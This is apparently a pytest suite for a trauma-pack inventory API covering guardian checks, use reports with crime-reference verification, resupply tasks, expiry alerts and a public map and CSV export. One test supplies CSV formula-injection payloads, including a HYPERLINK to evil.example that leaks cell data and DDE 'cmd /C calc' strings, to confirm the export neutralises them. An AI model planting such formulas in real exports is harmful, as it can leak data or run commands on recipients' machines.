"""In the field: guardians' checks and readiness, due and overdue checks, use reports with crime references
verified against referrals (now or later), resupply tasks, alerts, and the public map."""

import csv
import io
import uuid
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta

import httpx
import pytest
from fastapi import FastAPI
from sqlalchemy import select, text

from etp_inventory.clients.referrals import ReferralsClient
from etp_inventory.db import event_outbox
from etp_inventory.use_report.service import verify_pending
from vru_dev.kits.etp_inventory import (
    CSP_MEDWAY,
    CSP_SWALE,
    GUARDIAN,
    OTHER_GUARDIAN,
    PARTNER,
    STAFF,
    FakeReferrals,
    purchase_body,
    site_body,
)
from vru_dev.testing import TestIssuer

#: (name, latitude, longitude, public): Chatham, Rochester (1.5 km away), Gillingham (4 km), a hidden one.
SITES = {
    "chatham": ("Chatham bus station", 51.3838, 0.5243, True),
    "rochester": ("Rochester high street", 51.3880, 0.5040, True),
    "gillingham": ("Gillingham park", 51.3890, 0.5480, True),
    "hidden": ("Staff-only depot", 51.3839, 0.5244, False),
}


@dataclass
class World:
    sites: dict[str, str]
    packs: dict[str, str]  # site key -> the pack deployed there


@pytest.fixture
async def world(client: httpx.AsyncClient, issuer: TestIssuer) -> World:
    staff = issuer.headers(**STAFF)
    response = await client.post("/v1/purchases", json=purchase_body("FIELD", 8), headers=staff)
    assert response.status_code == 201
    await client.post("/v1/movements/allocations", json={"csp": "medway", "quantity": 6}, headers=staff)
    sites, packs = {}, {}
    for key, (name, lat, lon, public) in SITES.items():
        body = site_body(name, latitude=lat, longitude=lon, is_public=public, lock_code=f"LOCK-{key.upper()}")
        site = (await client.post("/v1/sites", json=body, headers=staff)).json()
        sites[key] = site["id"]
        deployed = await client.post(
            "/v1/movements/deployments",
            json={"site_id": site["id"], "quantity": 1},
            headers=issuer.headers(**CSP_MEDWAY),
        )
        packs[key] = deployed.json()["packs"][0]["id"]
    await client.put(f"/v1/sites/{sites['chatham']}/guardians/{GUARDIAN['sub']}", json={}, headers=staff)
    return World(sites, packs)


async def age_pack(app: FastAPI, pack_id: str, days: int) -> None:
    """As if the pack had arrived ``days`` ago and never been checked since."""
    async with app.state.sessionmaker() as session:
        await session.execute(
            text(
                "UPDATE packs SET arrived_at = now() - make_interval(days => :d), last_checked_at = NULL WHERE id = :p"
            ),
            {"d": days, "p": pack_id},
        )
        await session.commit()


async def pack(client: httpx.AsyncClient, issuer: TestIssuer, pack_id: str) -> dict[str, object]:
    return dict((await client.get(f"/v1/packs/{pack_id}", headers=issuer.headers(**STAFF))).json())


def check_body(pack_id: str, ok: bool = True) -> dict[str, object]:
    return {"pack_id": pack_id, "seal_intact": ok, "contents_present": ok, "expiry_seen": True}


class TestLogCheck:
    async def test_anonymous(self, client: httpx.AsyncClient) -> None:
        assert (await client.post("/v1/checks", json=check_body(str(uuid.uuid4())))).status_code == 401

    async def test_forbidden(self, client: httpx.AsyncClient, issuer: TestIssuer) -> None:
        response = await client.post(
            "/v1/checks", json=check_body(str(uuid.uuid4())), headers=issuer.headers(**PARTNER)
        )
        assert response.status_code == 403
        assert response.json()["type"].endswith("/forbidden")

    async def test_not_found(self, client: httpx.AsyncClient, issuer: TestIssuer, world: World) -> None:
        # a guardian cannot check a pack at a site they do not guard
        response = await client.post(
            "/v1/checks", json=check_body(world.packs["rochester"]), headers=issuer.headers(**GUARDIAN)
        )
        assert response.status_code == 404
        assert response.json()["type"].endswith("/pack-not-found")

    async def test_valid(self, client: httpx.AsyncClient, issuer: TestIssuer, world: World, app: FastAPI) -> None:
        target = world.packs["chatham"]
        await age_pack(app, target, 40)
        assert (await pack(client, issuer, target))["readiness"] == "check_overdue"
        failed = await client.post("/v1/checks", json=check_body(target, ok=False), headers=issuer.headers(**GUARDIAN))
        assert failed.status_code == 201
        assert failed.json()["passed"] is False
        assert failed.json()["readiness"] == "needs_attention"
        # the CSP replaces the missing item (If-Match on the pack) and it is ready again
        current = await client.get(f"/v1/packs/{target}", headers=issuer.headers(**CSP_MEDWAY))
        new_expiry = (date.today() + timedelta(days=500)).isoformat()
        url = f"/v1/packs/{target}/components/tourniquet"
        body = {"expires_on": new_expiry, "reason": "Tourniquet missing at check"}
        assert (await client.put(url, json=body, headers=issuer.headers(**CSP_MEDWAY))).status_code == 428
        replaced = await client.put(
            url, json=body, headers={**issuer.headers(**CSP_MEDWAY), "If-Match": current.headers["etag"]}
        )
        assert replaced.status_code == 200
        assert replaced.json()["readiness"] == "ready"
        assert replaced.json()["expires_on"] == new_expiry  # now the earliest component
        tourniquet = next(c for c in replaced.json()["components"] if c["component"] == "tourniquet")
        assert tourniquet["replaced_at"] is not None

    async def test_a_time_without_offset_or_a_number_is_422(
        self, client: httpx.AsyncClient, issuer: TestIssuer, world: World
    ) -> None:
        """Issue 13 (the lax class): ``checked_at`` is RFC 3339 with an offset — a naive time was compared with an
        aware one (500), a number was a Unix time; ``0`` is not ``false``."""
        target = world.packs["chatham"]
        for change in ({"checked_at": "2026-11-21T09:00:00"}, {"checked_at": 1_700_000_000}, {"seal_intact": 0}):
            response = await client.post(
                "/v1/checks", json=check_body(target) | change, headers=issuer.headers(**GUARDIAN)
            )
            assert response.status_code == 422, (change, response.text)
            assert response.json()["type"].endswith("/validation-error")
            assert [e["field"] for e in response.json()["errors"]] == list(change), change

    async def test_only_packs_at_sites(self, client: httpx.AsyncClient, issuer: TestIssuer, world: World) -> None:
        at_csp = (
            await client.get(
                "/v1/packs", params={"status": "in_stock", "district": "medway"}, headers=issuer.headers(**STAFF)
            )
        ).json()["items"]
        csp_pack = next(p for p in at_csp if p["location"]["kind"] == "csp")
        response = await client.post("/v1/checks", json=check_body(csp_pack["id"]), headers=issuer.headers(**STAFF))
        assert response.status_code == 409
        assert response.json()["type"].endswith("/pack-not-at-site")


class TestDueChecks:
    async def test_anonymous(self, client: httpx.AsyncClient) -> None:
        assert (await client.get("/v1/checks/due")).status_code == 401

    async def test_forbidden(self, client: httpx.AsyncClient, issuer: TestIssuer) -> None:
        refused = await client.get("/v1/checks/due", headers=issuer.headers(**PARTNER))
        assert refused.status_code == 403
        assert refused.json()["type"].endswith("/forbidden")

    async def test_valid(self, client: httpx.AsyncClient, issuer: TestIssuer, world: World, app: FastAPI) -> None:
        await age_pack(app, world.packs["chatham"], 31)  # overdue (interval 30 days)
        await age_pack(app, world.packs["rochester"], 25)  # due within the week
        staff = (await client.get("/v1/checks/due", headers=issuer.headers(**STAFF))).json()["items"]
        assert [(d["pack_id"], d["overdue"]) for d in staff] == [
            (world.packs["chatham"], True),
            (world.packs["rochester"], False),
        ]
        mine = (await client.get("/v1/checks/due", headers=issuer.headers(**GUARDIAN))).json()["items"]
        assert [d["pack_id"] for d in mine] == [world.packs["chatham"]]
        assert mine[0]["guardians"] == [GUARDIAN["sub"]]
        by_guardian = await client.get(
            "/v1/checks/due", params={"guardian": GUARDIAN["sub"]}, headers=issuer.headers(**CSP_MEDWAY)
        )
        assert [d["pack_id"] for d in by_guardian.json()["items"]] == [world.packs["chatham"]]
        swale = await client.get("/v1/checks/due", headers=issuer.headers(**CSP_SWALE))
        assert swale.json()["items"] == []
        overdue = (await client.get("/v1/alerts/overdue-checks", headers=issuer.headers(**CSP_MEDWAY))).json()
        assert [d["pack_id"] for d in overdue["items"]] == [world.packs["chatham"]]


class TestReportUse:
    async def test_anonymous(self, client: httpx.AsyncClient) -> None:
        body = {"pack_id": str(uuid.uuid4()), "site_id": str(uuid.uuid4()), "used_at": "2026-01-01T00:00:00Z"}
        assert (await client.post("/v1/use-reports", json=body)).status_code == 401

    async def test_forbidden(self, client: httpx.AsyncClient, issuer: TestIssuer) -> None:
        body = {"pack_id": str(uuid.uuid4()), "site_id": str(uuid.uuid4()), "used_at": "2026-01-01T00:00:00Z"}
        refused = await client.post("/v1/use-reports", json=body, headers=issuer.headers(**PARTNER))
        assert refused.status_code == 403
        assert refused.json()["type"].endswith("/forbidden")

    async def test_not_found(self, client: httpx.AsyncClient, issuer: TestIssuer, world: World) -> None:
        body = {
            "pack_id": world.packs["rochester"],
            "site_id": world.sites["rochester"],
            "used_at": datetime.now(UTC).isoformat(),
        }
        response = await client.post("/v1/use-reports", json=body, headers=issuer.headers(**OTHER_GUARDIAN))
        assert response.status_code == 404
        assert response.json()["type"].endswith("/pack-not-found")

    async def test_a_time_without_offset_is_422(
        self, client: httpx.AsyncClient, issuer: TestIssuer, world: World
    ) -> None:
        """Issue 13 (the lax class): a naive ``used_at`` was compared with an aware time (500)."""
        body = {"pack_id": world.packs["chatham"], "site_id": world.sites["chatham"], "used_at": "2026-11-21T23:10:00"}
        response = await client.post("/v1/use-reports", json=body, headers=issuer.headers(**GUARDIAN))
        assert response.status_code == 422, response.text
        assert response.json()["type"].endswith("/validation-error")
        assert [e["field"] for e in response.json()["errors"]] == ["used_at"]

    async def test_verified_reference_and_resupply(
        self, client: httpx.AsyncClient, issuer: TestIssuer, world: World, referrals: FakeReferrals
    ) -> None:
        referrals.known.add("46/123456/26")
        site = world.sites["chatham"]
        body = {
            "pack_id": world.packs["chatham"],
            "site_id": site,
            "used_at": datetime.now(UTC).isoformat(),
            "crime_reference": "46/123456/26",
            "notes": "Used on a stab wound.",
        }
        response = await client.post("/v1/use-reports", json=body, headers=issuer.headers(**GUARDIAN))
        assert response.status_code == 201
        report = response.json()
        assert report["crime_reference_status"] == "verified"
        assert referrals.calls == ["46/123456/26"]
        used = await pack(client, issuer, world.packs["chatham"])
        assert (used["status"], used["readiness"]) == ("used", "used")
        site_now = (await client.get(f"/v1/sites/{site}", headers=issuer.headers(**CSP_MEDWAY))).json()
        assert site_now["on_hand"] == 0
        tasks = (await client.get("/v1/resupply-tasks", headers=issuer.headers(**CSP_MEDWAY))).json()["items"]
        assert [(t["site_id"], t["status"], t["use_report_id"]) for t in tasks] == [(site, "open", report["id"])]
        again = await client.post("/v1/use-reports", json=body, headers=issuer.headers(**GUARDIAN))
        assert again.status_code == 409  # a used pack is not used twice
        assert again.json()["type"].endswith("/pack-not-in-place")

        deployed = await client.post(
            "/v1/movements/deployments", json={"site_id": site, "quantity": 1}, headers=issuer.headers(**CSP_MEDWAY)
        )
        (task,) = (await client.get("/v1/resupply-tasks", headers=issuer.headers(**CSP_MEDWAY))).json()["items"]
        assert task["status"] == "done"
        assert task["replacement_pack_id"] == deployed.json()["packs"][0]["id"]
        assert (await client.get(f"/v1/sites/{site}", headers=issuer.headers(**STAFF))).json()["on_hand"] == 1

    async def test_unknown_reference(
        self, client: httpx.AsyncClient, issuer: TestIssuer, world: World, referrals: FakeReferrals
    ) -> None:
        body = {
            "pack_id": world.packs["rochester"],
            "site_id": world.sites["rochester"],
            "used_at": datetime.now(UTC).isoformat(),
            "crime_reference": "46/999/26",
        }
        response = await client.post("/v1/use-reports", json=body, headers=issuer.headers(**CSP_MEDWAY))
        assert response.json()["crime_reference_status"] == "unknown"

    async def test_referrals_down_then_verified_later(
        self, client: httpx.AsyncClient, issuer: TestIssuer, world: World, referrals: FakeReferrals, app: FastAPI
    ) -> None:
        referrals.down = True
        referrals.known.add("46/777/26")
        body = {
            "pack_id": world.packs["gillingham"],
            "site_id": world.sites["gillingham"],
            "used_at": datetime.now(UTC).isoformat(),
            "crime_reference": "46/777/26",
        }
        response = await client.post("/v1/use-reports", json=body, headers=issuer.headers(**CSP_MEDWAY))
        assert response.status_code == 201  # never leave a used pack unrecorded
        report = response.json()
        assert report["crime_reference_status"] == "unverified"
        assert (await pack(client, issuer, world.packs["gillingham"]))["status"] == "used"

        # staff ask again while referrals is still down: nothing changes
        verify = "/v1/use-reports/crime-reference-checks"
        refused = await client.post(verify, headers=issuer.headers(**CSP_MEDWAY))
        assert refused.status_code == 403
        assert refused.json()["type"].endswith("/forbidden")
        still = (await client.post(verify, headers=issuer.headers(**STAFF))).json()
        assert still == {"checked": 0, "verified": 0, "unknown": 0, "unverified": 1}
        referrals.down = False
        done = (await client.post(verify, headers=issuer.headers(**STAFF))).json()
        assert done == {"checked": 1, "verified": 1, "unknown": 0, "unverified": 0}
        found = await client.get(f"/v1/use-reports/{report['id']}", headers=issuer.headers(**CSP_MEDWAY))
        assert found.json()["crime_reference_status"] == "verified"
        assert found.headers["etag"] == '"v2"'

    async def test_background_verification(
        self, client: httpx.AsyncClient, issuer: TestIssuer, world: World, referrals: FakeReferrals, app: FastAPI
    ) -> None:
        referrals.down = True
        body = {
            "pack_id": world.packs["rochester"],
            "site_id": world.sites["rochester"],
            "used_at": datetime.now(UTC).isoformat(),
            "crime_reference": "46/555/26",
        }
        report = (await client.post("/v1/use-reports", json=body, headers=issuer.headers(**CSP_MEDWAY))).json()
        referrals.down = False
        async with app.state.sessionmaker() as session:
            run = await verify_pending(session, referrals=ReferralsClient(referrals.client()))
            await session.commit()
        assert (run.checked, run.unknown) == (1, 1)
        found = await client.get(f"/v1/use-reports/{report['id']}", headers=issuer.headers(**STAFF))
        assert found.json()["crime_reference_status"] == "unknown"
        listed = await client.get(
            "/v1/use-reports", params={"crime_reference_status": "unverified"}, headers=issuer.headers(**STAFF)
        )
        assert listed.json()["items"] == []


class TestAlerts:
    async def test_anonymous(self, client: httpx.AsyncClient) -> None:
        assert (await client.get("/v1/alerts")).status_code == 401

    async def test_forbidden(self, client: httpx.AsyncClient, issuer: TestIssuer) -> None:
        for who in (GUARDIAN, PARTNER):
            refused = await client.get("/v1/alerts/expiring?within_days=30", headers=issuer.headers(**who))
            assert refused.status_code == 403
            assert refused.json()["type"].endswith("/forbidden")

    async def test_valid(self, client: httpx.AsyncClient, issuer: TestIssuer, world: World, app: FastAPI) -> None:
        async with app.state.sessionmaker() as session:
            for key, days in (("chatham", 20), ("rochester", 45), ("gillingham", -2)):
                await session.execute(
                    text("UPDATE packs SET expires_on = current_date + CAST(:d AS integer) WHERE id = :p"),
                    {"d": days, "p": world.packs[key]},
                )
            await session.commit()
        headers = issuer.headers(**CSP_MEDWAY)
        within_30 = (await client.get("/v1/alerts/expiring?within_days=30", headers=headers)).json()["items"]
        assert [(e["pack_id"], e["expired"]) for e in within_30] == [
            (world.packs["gillingham"], True),
            (world.packs["chatham"], False),
        ]
        assert within_30[1]["days_left"] == 20
        within_60 = (await client.get("/v1/alerts/expiring?within_days=60", headers=headers)).json()["items"]
        assert len(within_60) == 3
        assert (await client.get("/v1/alerts/expiring?within_days=45", headers=headers)).status_code == 422
        assert (await pack(client, issuer, world.packs["gillingham"]))["readiness"] == "expired"
        counts = (await client.get("/v1/alerts", headers=headers)).json()
        assert counts["expired_in_stock"] == 1
        assert (counts["expiring_30_days"], counts["expiring_60_days"]) == (1, 2)
        assert counts["csps_below_minimum"] == ["medway"]  # 2 packs held, minimum 5
        swale = (await client.get("/v1/alerts/expiring?within_days=90", headers=issuer.headers(**CSP_SWALE))).json()
        assert swale["items"] == []


class TestPublicMap:
    async def test_geojson_shows_ready_public_packs_only(
        self, client: httpx.AsyncClient, issuer: TestIssuer, world: World, app: FastAPI
    ) -> None:
        await age_pack(app, world.packs["gillingham"], 60)  # check overdue: not ready
        response = await client.get("/v1/public/packs.geojson")
        assert response.status_code == 200
        assert response.headers["content-type"] == "application/geo+json"
        assert response.headers["cache-control"] == "public, max-age=60"
        features = response.json()["features"]
        assert [f["properties"]["name"] for f in features] == ["Chatham bus station", "Rochester high street"]
        chatham = features[0]
        assert chatham["geometry"] == {"type": "Point", "coordinates": [0.5243, 51.3838]}
        assert chatham["properties"]["ready_packs"] == 1
        # the public id, never the internal one
        internal = world.packs["chatham"]
        assert internal not in response.text
        assert chatham["properties"]["pack_ids"] == [(await pack(client, issuer, internal))["public_id"]]
        for secret in ("LOCK-", "Contact Person Hidden", "01634 000001", "hidden.contact", "Staff-only depot"):
            assert secret not in response.text
        assert "lock_code" not in response.text
        assert "contact" not in response.text

    async def test_nearest_in_distance_order(self, client: httpx.AsyncClient, world: World) -> None:
        # from a point at Gillingham: Gillingham (~0 km), Chatham (~1.7 km), Rochester (~3.1 km)
        response = await client.get("/v1/public/packs/nearest", params={"latitude": 51.389, "longitude": 0.548})
        assert response.status_code == 200
        assert response.headers["cache-control"] == "public, max-age=60"
        packs = response.json()["packs"]
        assert [p["site"]["name"] for p in packs] == ["Gillingham park", "Chatham bus station", "Rochester high street"]
        distances = [p["distance_m"] for p in packs]
        assert distances == sorted(distances)
        assert distances[0] < 50
        assert 1500 < distances[1] < 1900
        for secret in ("LOCK-", "Contact Person Hidden", "hidden.contact", "Staff-only depot"):
            assert secret not in response.text
        one = await client.get("/v1/public/packs/nearest", params={"latitude": 51.388, "longitude": 0.504, "limit": 1})
        assert [p["site"]["name"] for p in one.json()["packs"]] == ["Rochester high street"]

    async def test_nearest_needs_a_point(self, client: httpx.AsyncClient) -> None:
        response = await client.get("/v1/public/packs/nearest", params={"latitude": 95, "longitude": 0.5})
        assert response.status_code == 422

    async def test_nearest_takes_any_finite_point(
        self, client: httpx.AsyncClient, issuer: TestIssuer, world: World
    ) -> None:
        """Issue 13: a subnormal coordinate (in the query, or a site's) was PostgreSQL's float underflow, a 500
        without a token. Any finite point in range is served; the point is rounded to 1e-9 degrees."""
        body = site_body("Greenwich meridian stop", latitude=51.3838, longitude=1e-300)
        site = (await client.post("/v1/sites", json=body, headers=issuer.headers(**STAFF))).json()
        deployed = await client.post(
            "/v1/movements/deployments",
            json={"site_id": site["id"], "quantity": 1},
            headers=issuer.headers(**CSP_MEDWAY),
        )
        assert deployed.status_code == 201
        for latitude, longitude in (("51.38", "0"), ("5e-324", "0.52"), ("51.38", "-5e-324"), ("-0.0", "1e-310")):
            response = await client.get(
                "/v1/public/packs/nearest", params={"latitude": latitude, "longitude": longitude}
            )
            assert response.status_code == 200, (latitude, longitude, response.text)
            assert response.json()["latitude"] == round(float(latitude), 9)
        near_meridian = await client.get("/v1/public/packs/nearest", params={"latitude": 51.3838, "longitude": 0})
        assert near_meridian.json()["packs"][0]["site"]["name"] == "Greenwich meridian stop"
        assert near_meridian.json()["packs"][0]["distance_m"] == 0
        for latitude in ("nan", "inf", "-inf", "1e308", "90.000000001", "9" * 5000):
            refused = await client.get("/v1/public/packs/nearest", params={"latitude": latitude, "longitude": 0.5})
            assert refused.status_code == 422, latitude
            assert refused.json()["type"].endswith("/validation-error")
            assert "latitude" in refused.json()["detail"]

    async def test_open_data_csv(self, client: httpx.AsyncClient, world: World) -> None:
        response = await client.get("/v1/public/sites.csv")
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        assert response.headers["cache-control"] == "public, max-age=60"
        rows = list(csv.DictReader(io.StringIO(response.text)))
        assert sorted(r["name"] for r in rows) == ["Chatham bus station", "Gillingham park", "Rochester high street"]
        assert {r["ready_packs"] for r in rows} == {"1"}
        assert "LOCK-" not in response.text
        assert "lock_code" not in response.text
        assert "Contact Person Hidden" not in response.text
        assert "hidden.contact" not in response.text
        assert "Staff-only depot" not in response.text

    async def test_open_data_csv_neutralises_formulas(self, client: httpx.AsyncClient, issuer: TestIssuer) -> None:
        """Issue 13: a site's name, address or hours that a spreadsheet would run as a formula is written with a
        leading apostrophe; the coordinates and counts stay numbers (a negative longitude is not prefixed)."""
        staff = issuer.headers(**STAFF)
        hostile = {
            "=": ('=HYPERLINK("https://evil.example/?d="&A2,"Map")', "=1+1 Chatham", "=cmd|' /C calc'!A0"),
            "+": ("+Chatham depot", "+44 High Street", "+1-1"),
            "-": ("-Chatham depot", "-2+3 High Street", "-1+1"),
            "@": ("@SUM(1+1) depot", "@Chatham High Street", "@SUM(1+1)*cmd|' /C calc'!A0"),
        }
        for name, address, hours in hostile.values():
            body = site_body(name, address=address, access_hours=hours, longitude=-0.25)
            assert (await client.post("/v1/sites", json=body, headers=staff)).status_code == 201
        response = await client.get("/v1/public/sites.csv")
        assert response.status_code == 200
        rows = {r["name"]: r for r in csv.DictReader(io.StringIO(response.text))}
        for name, address, hours in hostile.values():
            row = rows["'" + name]
            assert (row["address"], row["access_hours"]) == ("'" + address, "'" + hours)
            assert (row["longitude"], row["latitude"]) == ("-0.250000", "51.383800")
            assert row["ready_packs"] == "0"
        text_columns = ("site_id", "name", "address", "postcode", "district", "access_hours", "cabinet_type")
        for row in rows.values():
            for column in text_columns:
                assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row[column])


async def test_openapi_every_operation_documented(client: httpx.AsyncClient) -> None:
    document = (await client.get("/openapi/etp_inventory.json")).json()
    for path, operations in document["paths"].items():
        for method, operation in operations.items():
            assert operation["summary"], (method, path)
            assert operation["description"], (method, path)
            errors = [s for s in operation["responses"] if s.startswith(("4", "5"))]
            assert errors, (method, path)
            if path.startswith("/v1/public/"):
                assert "security" not in operation
            else:
                assert operation["security"] == [{"HTTPBearer": []}], (method, path)


async def test_a_pack_used_is_an_event_for_the_units_staff(
    client: httpx.AsyncClient, issuer: TestIssuer, world: World, app: FastAPI
) -> None:
    """``pack.used`` for webhooks, written with the use report (vru_shared.events): thin, to the unit's staff; the
    site's guardians (identity persons) are named for an e-mail or SMS notice."""
    body = {
        "pack_id": world.packs["chatham"],
        "site_id": world.sites["chatham"],
        "used_at": datetime.now(UTC).isoformat(),
        "notes": "Used on a stab wound.",
    }
    response = await client.post("/v1/use-reports", json=body, headers=issuer.headers(**GUARDIAN))
    assert response.status_code == 201, response.text
    report = response.json()
    async with app.state.sessionmaker() as session:
        rows = (await session.execute(select(event_outbox).where(event_outbox.c.type == "pack.used"))).all()
    [event] = [dict(r._mapping) for r in rows if r.data["id"] == report["id"]]
    assert event["audience"] == {"agencies": [], "staff": True, "people": [GUARDIAN["sub"]]}
    assert event["data"]["links"] == {"self": f"/v1/use-reports/{report['id']}"}
    assert (event["data"]["pack_id"], event["data"]["site_id"], event["data"]["district"]) == (
        world.packs["chatham"],
        world.sites["chatham"],
        "medway",
    )
    assert "stab" not in str(event["data"])
